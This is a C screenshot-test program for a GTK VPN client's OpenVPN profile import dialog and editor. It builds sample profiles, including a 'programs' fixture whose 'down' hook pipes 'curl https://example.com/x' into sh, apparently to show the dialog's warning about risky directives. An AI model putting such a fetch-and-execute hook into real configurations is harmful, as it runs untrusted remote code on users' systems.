/* SPDX-FileCopyrightText: 2026 The Culvert authors
 * SPDX-License-Identifier: GPL-2.0-or-later
 */

/* Takes a picture of the import of profiles: import-screenshots FOLDER SUFFIX */

#include "culvert-await.h"
#include "culvert-camera.h"
#include "culvert-import-dialog.h"
#include "culvert-import-stage.h"
#include "culvert-profile-editor.h"
#include "culvert-ui-stage.h"

#define NARROW 360

static GtkWindow *
open_dialog (CulvertImportStage *stage, const char *name, const char *text)
{
  g_autoptr (GFile) file = culvert_import_stage_write (stage, name, text);
  GtkWindow *dialog = GTK_WINDOW (culvert_import_dialog_new (NULL));

  culvert_import_dialog_add_file (CULVERT_IMPORT_DIALOG (dialog), file);
  gtk_window_present (dialog);

  return dialog;
}

static void
add_file (CulvertImportStage *stage, GtkWindow *dialog, const char *name, const char *text)
{
  g_autoptr (GFile) file = culvert_import_stage_write (stage, name, text);

  culvert_import_dialog_add_file (CULVERT_IMPORT_DIALOG (dialog), file);
}

static gboolean
is_reading (GtkWindow *dialog)
{
  GtkWidget *stack = culvert_ui_stage_find_widget (GTK_WIDGET (dialog), "stack");

  return g_str_equal (gtk_stack_get_visible_child_name (GTK_STACK (stack)), "reading");
}

static void
take (GtkWindow *dialog, const char *name)
{
  culvert_await (!is_reading (dialog));
  culvert_camera_take (dialog, name);
}

static void
take_narrow (GtkWindow *dialog, const char *name)
{
  int width, height;

  culvert_ui_stage_settle (dialog);
  gtk_window_get_size (dialog, &width, &height);
  gtk_window_resize (dialog, NARROW, height);
  take (dialog, name);
}

static char *
create_normal (void)
{
  g_autofree char *ca = culvert_import_stage_make_block ("ca", "CN=Example Company CA", 2000);
  g_autofree char *cert = culvert_import_stage_make_block ("cert", "CN=w.jansen", 300);

  return g_strconcat (CULVERT_TEST_REMOTE, ca, cert, CULVERT_TEST_KEY, NULL);
}

static char *
create_noted (void)
{
  g_autofree char *ca = culvert_import_stage_make_block ("ca", "CN=Example Company CA", 12);
  g_autofree char *cert = culvert_import_stage_make_block ("cert", "CN=w.jansen", -35);

  return g_strconcat (CULVERT_TEST_REMOTE "remote backup.example.com 443 tcp-client\n"
                                          "log /var/log/openvpn.log\n"
                                          "auth-user-pass /root/password\n"
                                          "block-outside-dns\n"
                                          "user nobody\n",
                      ca,
                      cert,
                      CULVERT_TEST_KEY,
                      NULL);
}

static const char programs[] =
    CULVERT_TEST_REMOTE "script-security 2\n"
                        "up /etc/openvpn/update-resolv-conf\n"
                        "down \"/bin/sh -c 'curl https://example.com/x | sh'\"\n"
                        "plugin /usr/lib/openvpn/plugins/auth-pam.so login\n"
                        "tls-export-cert /tmp\n";

static const char broken[] = CULVERT_TEST_REMOTE "\nverb \"3\nnobind\n";

static char *
create_long (void)
{
  GString *text = g_string_new (CULVERT_TEST_REMOTE);

  for (int i = 0; i < 60; i++)
    g_string_append_printf (text, "log /var/log/openvpn-%d.log\nmystery-%d on\n", i, i);

  return g_string_free (text, FALSE);
}

static void
take_single (CulvertImportStage *stage, const char *text, const char *name)
{
  g_autofree char *narrow_name = g_strconcat (name, "-narrow", NULL);
  GtkWindow *dialog = open_dialog (stage, "Office.ovpn", text);

  take (dialog, name);
  take_narrow (dialog, narrow_name);
  gtk_dialog_response (GTK_DIALOG (dialog), GTK_RESPONSE_CANCEL);
}

static void
take_several (CulvertImportStage *stage, const char *normal)
{
  GtkWindow *dialog = open_dialog (stage, "Office.ovpn", normal);

  add_file (stage, dialog, "Broken.ovpn", broken);
  add_file (stage, dialog, "Home.ovpn", CULVERT_TEST_REMOTE);
  add_file (stage, dialog, "Lab.ovpn", CULVERT_TEST_REMOTE);
  take (dialog, "import-several");
  take_narrow (dialog, "import-several-narrow");
  gtk_dialog_response (GTK_DIALOG (dialog), GTK_RESPONSE_OK);
  take (dialog, "import-several-refused");
  gtk_dialog_response (GTK_DIALOG (dialog), GTK_RESPONSE_CANCEL);
}

static GtkWindow *
open_editor (const char *text)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (CulvertConfigImport) import = culvert_import_stage_import (text, &error);
  CulvertProfileEditor *editor;

  g_assert_no_error (error);
  editor = culvert_profile_editor_new ("Office", culvert_config_import_get_text (import), &error);
  g_assert_no_error (error);
  gtk_window_present (GTK_WINDOW (editor));

  return GTK_WINDOW (editor);
}

static void
append (GtkWindow *editor, const char *text)
{
  GtkWidget *view = culvert_ui_stage_find_widget (GTK_WIDGET (editor), "view");
  GtkWidget *save = culvert_ui_stage_find_widget (GTK_WIDGET (editor), "save_button");
  GtkTextBuffer *buffer = gtk_text_view_get_buffer (GTK_TEXT_VIEW (view));
  gboolean could_save = gtk_widget_get_sensitive (save);
  GtkTextIter end;

  gtk_text_buffer_get_end_iter (buffer, &end);
  gtk_text_buffer_insert (buffer, &end, text, -1);
  culvert_await (gtk_widget_get_sensitive (save) != could_save);
}

static void
take_editor (const char *normal)
{
  GtkWindow *editor = open_editor (normal);

  culvert_camera_take (editor, "editor");
  append (editor, "up /etc/openvpn/update-resolv-conf\nlog /tmp/log\n");
  culvert_camera_take (editor, "editor-notes");
  append (editor, "verb \"3\n");
  culvert_camera_take (editor, "editor-mistake");
  culvert_ui_stage_settle (editor);
  gtk_window_resize (editor, NARROW, 600);
  culvert_camera_take (editor, "editor-mistake-narrow");
  gtk_dialog_response (GTK_DIALOG (editor), GTK_RESPONSE_CANCEL);
  culvert_camera_take (culvert_ui_stage_find_window ("CulvertMessageDialog"), "editor-discard");
  gtk_widget_destroy (GTK_WIDGET (editor));
}

int
main (int argc, char **argv)
{
  CulvertImportStage stage;
  CulvertUiStage *ui_stage;
  g_autofree char *normal = create_normal ();
  g_autofree char *noted = create_noted ();
  g_autofree char *many = create_long ();

  g_test_init (&argc, &argv, NULL);
  if (argc != 3)
    return 2;

  culvert_camera_set_up (argv[1], argv[2]);
  ui_stage = culvert_ui_stage_new ();
  culvert_import_stage_set_up (&stage);
  take_single (&stage, normal, "import");
  take_single (&stage, noted, "import-notes");
  take_single (&stage, programs, "import-programs");
  take_single (&stage, many, "import-many-notes");
  take_single (&stage, broken, "import-refused");
  take_several (&stage, normal);
  take_editor (normal);
  culvert_import_stage_tear_down (&stage);
  g_assert_finalize_object (ui_stage);

  return 0;
}
